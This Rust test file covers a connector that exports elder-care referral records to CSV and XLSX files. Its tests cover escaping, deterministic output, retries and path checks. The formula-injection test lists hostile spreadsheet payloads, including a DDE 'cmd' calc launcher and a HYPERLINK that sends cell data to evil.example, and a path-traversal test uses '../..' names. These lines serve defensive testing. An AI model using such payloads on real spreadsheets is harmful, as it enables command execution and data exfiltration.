//! The table of a referral.

use std::io::Cursor;

use calamine::{Data, Reader as _, Xlsx};
use linli_plugin_sdk::connector::{Delivered, Settings};

use super::*;
use crate::Connector as _;

#[test]
fn a_referral_is_a_table_with_its_headings() {
    let mut folders = Folders::default();
    let fields = [
        ("note", "跌倒过"),
        ("phone", "13800001234"),
        ("own_code", "x"),
        ("matter", "上门诊疗"),
        ("matter_en", "medical visit"),
        ("urgency_en", "routine"),
        ("name", "王秀英"),
        ("health", "高血压, \"三级\"\n吃药"),
    ];
    let delivered = folders.deliver(&delivery(&fields), "{}");
    let external_reference = "referral-0193-a".to_owned();
    assert_eq!(delivered, Ok(End::Delivered(Delivered { external_reference })));
    let text = String::from_utf8(folders.outgoing["referral-0193-a.csv"].clone()).unwrap();
    assert_eq!(
        text,
        "\u{feff}转介编号 referral,事项 matter,姓名 name,联系电话 phone,身体状况 health,情况说明 note,own_code,\
         办理结果（已受理/不受理/已办结） state,说明 remark,办理日期 decided_on\r\n\
         sites/gardens/referrals/0193-a,上门诊疗,王秀英,13800001234,\"高血压, \"\"三级\"\" 吃药\",跌倒过,x,,,\r\n"
    );
}

#[test]
fn a_workbook_holds_the_same_and_never_changes_a_byte() {
    let mut folders = Folders::default();
    let settings = r#"{"format": "xlsx"}"#;
    let fields = [("name", "王 & <秀英>"), ("phone", "=1+1")];
    for _ in 0..2 {
        assert!(folders.deliver(&delivery(&fields), settings).is_ok());
    }
    let bytes = folders.outgoing["referral-0193-a.xlsx"].clone();
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes.clone())).unwrap();
    let range = book.worksheet_range("转介").unwrap();
    assert_eq!(range.get((0, 1)), Some(&Data::String("姓名 name".into())));
    assert_eq!(range.get((1, 1)), Some(&Data::String("王 & <秀英>".into())));
    assert_eq!(range.get((1, 2)), Some(&Data::String("=1+1".into())), "text, never a formula");
    // Retries lie days and builds apart, and a file of other bytes would be refused: what is written is written down.
    let sum = bytes.iter().fold((1_u32, 0_u32), |(a, b), byte| {
        let a = (a + u32::from(*byte)) % 65_521;
        (a, (b + a) % 65_521)
    });
    assert_eq!((bytes.len(), sum), (EXPECTED_LENGTH, EXPECTED_SUM));
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    for index in 0..archive.len() {
        let part = archive.by_index_raw(index).unwrap();
        assert_eq!(part.last_modified(), Some(zip::DateTime::DEFAULT));
        assert_eq!(part.compression(), zip::CompressionMethod::Stored);
    }
}

/// Of the workbook above: how many bytes it has, and their Adler-32.
const EXPECTED_LENGTH: usize = 3_184;
const EXPECTED_SUM: (u32, u32) = (9_023, 58_494);

#[test]
fn no_value_becomes_a_formula_or_another_cell() {
    let begins = [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "\u{a0}=",
        "＝",
        "＋",
        "－",
        "＠",
        "'=",
        "|",
        "%",
        "\u{feff}=",
        "\u{0}=",
    ];
    let formulas =
        ["cmd|' /C calc'!A0", "HYPERLINK(\"https://evil.example/?x=\"&A1)", "1+1,=2+2", "\"\r\n=3+3"];
    for begin in begins {
        for formula in formulas {
            let evil = format!("{begin}{formula}");
            let mut folders = Folders::default();
            assert!(folders.deliver(&delivery(&[("name", &evil), ("phone", &evil)]), "{}").is_ok());
            let bytes = &folders.outgoing["referral-0193-a.csv"];
            let text = std::str::from_utf8(bytes).unwrap().trim_start_matches('\u{feff}');
            let rows: Vec<csv::StringRecord> = csv::ReaderBuilder::new()
                .has_headers(false)
                .from_reader(text.as_bytes())
                .records()
                .map(Result::unwrap)
                .collect();
            assert_eq!((rows.len(), rows[0].len(), rows[1].len()), (2, 6, 6), "{evil:?}");
            for cell in rows[1].iter().filter(|cell| !cell.is_empty()) {
                let first = cell.trim_start().chars().next().unwrap();
                assert!(!"=+-@＝＋－＠|%\t\r".contains(first), "{evil:?} became {cell:?}");
            }
        }
    }
}

#[test]
fn no_value_becomes_another_number_or_a_day() {
    for (value, expect) in [
        ("990102194803051234", "'990102194803051234"),
        ("057188001234", "'057188001234"),
        ("01012345678", "'01012345678"),
        ("13800001234", "13800001234"),
        ("0571-88001234", "0571-88001234"),
        ("3-2-10", "'3-2-10"),
        ("3/2", "'3/2"),
        ("8:30", "'8:30"),
        ("2E5", "'2E5"),
        ("1948-03-05", "1948-03-05"),
        ("3幢2单元10", "3幢2单元10"),
        ("99010219480305123X", "99010219480305123X"),
        ("0", "0"),
        // Where a semicolon separates cells, this one would begin with a formula.
        ("a;=1+1", "a；=1+1"),
        ("王\u{202e}秀\u{200b}英", "王秀英"),
    ] {
        let mut folders = Folders::default();
        assert!(folders.deliver(&delivery(&[("name", value)]), "{}").is_ok());
        let text = String::from_utf8(folders.outgoing["referral-0193-a.csv"].clone()).unwrap();
        assert!(text.ends_with(&format!("0193-a,{expect},,,\r\n")), "{value} in {text}");
    }
}

#[test]
fn a_repetition_is_the_same_file_and_another_one_is_refused() {
    for settings in ["{}", r#"{"format": "csv"}"#, r#"{"format": "xlsx"}"#] {
        let mut folders = Folders::default();
        let first = folders.deliver(&delivery(&[("name", "王秀英"), ("phone", "1")]), settings);
        // The order in which fields come is nothing that a body sees.
        assert_eq!(folders.deliver(&delivery(&[("phone", "1"), ("name", "王秀英")]), settings), first);
        assert_eq!(folders.outgoing.len(), 1);
        let error = folders.deliver(&delivery(&[("name", "王秀兰")]), settings).unwrap_err();
        assert!(!error.is_later() && error.message().starts_with("writing `referral-0193-a."), "{error:?}");
    }
}

#[test]
fn a_full_disk_is_tried_again() {
    for (kind, later) in
        [(FailureKind::NotDone, true), (FailureKind::Unknown, true), (FailureKind::Forbidden, false)]
    {
        let operation = Operation::Deliver(delivery(&[]));
        let error = drive::<FileDrop>(operation, "{}", |_| Outcome::failure(kind, "no space")).unwrap_err();
        assert_eq!((error.is_later(), error.message()), (later, "writing `referral-0193-a.csv`: no space"));
        for operation in
            [Operation::Poll(Poll::default()), Operation::PullRoster(PullRoster::default()), Operation::Probe]
        {
            let error = drive::<FileDrop>(operation, "{}", |_| Outcome::failure(kind, "gone")).unwrap_err();
            assert_eq!((error.is_later(), error.message()), (later, "gone"));
        }
    }
    assert_eq!(Folders::default().run(Operation::Probe, "{}"), Ok(End::Probed));
}

#[test]
fn a_name_is_a_file_name_or_nothing_is_written() {
    for name in [
        "",
        "referrals/1",
        "sites/a/referrals/../../x",
        "sites/a/referrals/A",
        "sites/a/referrals/1/x",
        "sites//referrals/1",
    ] {
        let mut folders = Folders::default();
        let error =
            folders.deliver(&Delivery { referral: name.into(), ..Delivery::default() }, "{}").unwrap_err();
        assert!(!error.is_later() && folders.steps.is_empty(), "{name}");
    }
    let longest = format!("sites/a/referrals/{}", "a".repeat(63));
    let mut folders = Folders::default();
    assert!(
        folders
            .deliver(&Delivery { referral: longest, ..Delivery::default() }, r#"{"format": "xlsx"}"#)
            .is_ok()
    );
    assert!(folders.outgoing.keys().all(|name| name.len() <= 100));
}

#[test]
fn settings_are_checked() {
    let check =
        |settings: serde_json::Value| FileDrop::check(&Settings::parse(&settings.to_string()).unwrap());
    for good in [
        serde_json::json!({}),
        serde_json::json!({"format": "xlsx", "group": "veteran", "utc_offset_minutes": -720}),
        serde_json::json!({"group": ""}),
    ] {
        assert_eq!(check(good.clone()), Ok(()), "{good}");
    }
    for (wrong, says) in [
        (serde_json::json!({"format": "xls"}), "`format`"),
        (serde_json::json!({"group": "低保"}), "`group`"),
        (serde_json::json!({"utc_offset_minutes": 841}), "`utc_offset_minutes`"),
        (serde_json::json!({"utc_offset_minutes": i64::MIN}), "`utc_offset_minutes`"),
    ] {
        assert!(check(wrong.clone()).unwrap_err().contains(says), "{wrong}");
    }
}
